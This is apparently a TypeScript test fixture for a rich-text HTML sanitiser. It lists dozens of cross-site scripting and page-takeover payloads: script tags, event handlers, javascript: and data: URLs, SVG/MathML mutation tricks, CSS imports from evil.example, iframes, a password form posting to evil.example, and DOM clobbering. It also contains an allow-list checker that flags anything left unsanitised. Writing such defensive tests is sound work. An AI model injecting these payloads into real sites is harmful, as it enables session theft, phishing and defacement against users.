/**
 * What an attacker, or a careless paste, may put into a rich text. Each would call `attacked()`, load
 * something from elsewhere, or take the page over, if it were let through.
 */
export const hostileHtml: readonly string[] = [
  // Scripts
  "<script>attacked()</script>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>attacked()</scr</script>ipt>",
  "<script\x00>attacked()</script>",
  '<script type="module">import "https://evil.example/x.js"</script>',
  // Handlers
  "<img src=x onerror=attacked()>",
  "<img src=x onerror\n=\n'attacked()'>",
  '<img src="x` `"onerror="attacked()">',
  '"><img src=x onerror=attacked()>',
  "<body onload=attacked()>",
  "<div onmouseover='attacked()' onfocus=attacked() tabindex=0 autofocus>a</div>",
  "<p onpointerenter=attacked() onanimationstart=attacked()>a</p>",
  "<details open ontoggle=attacked()><summary>a</summary></details>",
  "<input autofocus onfocus=attacked()>",
  "<video><source onerror=attacked()></video>",
  "<audio src=x onerror=attacked()></audio>",
  "<marquee onstart=attacked()>a</marquee>",
  // Schemes
  '<a href="javascript:attacked()">a</a>',
  '<a href="JaVaScRiPt:attacked()">a</a>',
  '<a href=" &#14; javascript:attacked()">a</a>',
  '<a href="java&#x09;script:attacked()">a</a>',
  '<a href="java&NewLine;script&colon;attacked()">a</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;attacked()">a</a>',
  '<a href="\x01javascript:attacked()">a</a>',
  '<a href="vbscript:attacked()">a</a>',
  '<a href="data:text/html,<script>attacked()</script>">a</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hdHRhY2tlZCgpPC9zY3JpcHQ+">a</a>',
  '<a href="blob:https://evil.example/1">a</a>',
  '<a href="file:///etc/passwd">a</a>',
  '<a href="//evil.example">a</a>',
  '<a href="/\\evil.example">a</a>',
  '<a href="/&#9;/evil.example">a</a>',
  '<a href="intent://evil.example#Intent;end">a</a>',
  '<img src="javascript:attacked()">',
  '<img src="data:image/svg+xml,<svg onload=attacked()>">',
  '<img srcset="https://evil.example/x.png 1x" src="">',
  '<img src="//evil.example/x.png">',
  // Other languages in the page: SVG, MathML
  "<svg onload=attacked()></svg>",
  "<svg><script>attacked()</script></svg>",
  '<svg><a xlink:href="javascript:attacked()"><text y="20">a</text></a></svg>',
  '<svg><animate attributeName=href values="javascript:attacked()" /></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x><script>attacked()</script></svg>#x"></use></svg>',
  "<svg><foreignObject><img src=x onerror=attacked()></foreignObject></svg>",
  '<math><a xlink:href="javascript:attacked()">a</a></math>',
  '<math href="javascript:attacked()">a</math>',
  // Texts that change their meaning when they are read a second time
  '<svg></p><style><a id="</style><img src=1 onerror=attacked()>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=attacked()&gt;">',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=attacked()>",
  '<noscript><p title="</noscript><img src=x onerror=attacked()>">a</p></noscript>',
  '<p title="</p><img src=x onerror=attacked()>">a</p>',
  '<xmp><p title="</xmp><img src=x onerror=attacked()>"></xmp>',
  '<textarea><img title="</textarea><img src=x onerror=attacked()>"></textarea>',
  '<title><img title="</title><img src=x onerror=attacked()>"></title>',
  "<!--><img src=x onerror=attacked()>-->",
  "<![CDATA[<img src=x onerror=attacked()>]]>",
  "<template><img src=x onerror=attacked()></template>",
  "<select><template><img src=x onerror=attacked()></template></select>",
  "<a href='a'><table><a href='javascript:attacked()'>a</a></table></a>",
  // Styles
  "<style>@import 'https://evil.example/x.css'; * { display: none }</style>",
  '<p style="position:fixed;inset:0;background:url(https://evil.example/x.png)">a</p>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<p class="fixed inset-0 z-50 bg-paper skip-link">a</p>',
  // What takes the page over
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>parent.attacked()</script>"></iframe>',
  '<object data="https://evil.example"></object><embed src="https://evil.example">',
  '<form action="https://evil.example"><input name=password><button>OK</button></form>',
  '<button formaction="javascript:attacked()">a</button>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<p id="contenu" name="body">a</p><img name="getElementById" src="/x.png">',
  '<a id=defaultView href="/">a</a><a id=defaultView name=x href="/">a</a>',
  '<dialog open>a</dialog><portal src="https://evil.example"></portal>',
  "<p contenteditable accesskey=x slot=y part=z is=w data-x=1 aria-hidden=true>a</p>",
  "<custom-element onclick=attacked()>a</custom-element>",
  '<a href="https://exemple.fr" target="_blank" ping="https://evil.example" download>a</a>',
];

/** Written again, not taken from the sanitiser: what may be in a text, and on what. */
const HARMLESS = new Set(
  (
    "a abbr b blockquote br caption cite code dd del div dl dt em figcaption figure h2 h3 h4 h5 h6 hr " +
    "i img ins kbd li mark ol p pre q s small span strong sub sup table tbody td tfoot th thead tr u ul"
  ).split(" "),
);
const ATTRIBUTES: Readonly<Record<string, RegExp>> = {
  href: /^(?:https?:\/\/[^/]|mailto:\S|tel:[+\d]|\/(?![/\\\t\n\r])|#)/iu,
  src: /^(?:https?:\/\/[^/]|blob:|\/(?![/\\\t\n\r]))/iu,
  class: /^(?:table-frame|(?:(?:color|background|align)-[a-z]+ ?)+)$/u,
  rel: /^noopener noreferrer$/u,
  loading: /^lazy$/u,
  decoding: /^async$/u,
  role: /^region$/u,
  tabindex: /^0$/u,
  "aria-label": /./u,
};
const WORDS = new Set("alt title width height colspan rowspan scope start lang".split(" "));

/** What is in the HTML that must not be there, read as a browser reads it: in a page, or in jsdom. */
export function dangersIn(html: string): string[] {
  const read = document.createElement("div");
  read.innerHTML = html;
  return Array.from(read.querySelectorAll("*")).flatMap((element) => [
    ...(HARMLESS.has(element.localName) && element.namespaceURI === "http://www.w3.org/1999/xhtml"
      ? []
      : [element.outerHTML]),
    ...Array.from(element.attributes)
      .filter(({ name, value }) => !WORDS.has(name) && !ATTRIBUTES[name]?.test(value))
      .map(({ name, value }) => `${element.localName} ${name}=${value}`),
  ]);
}
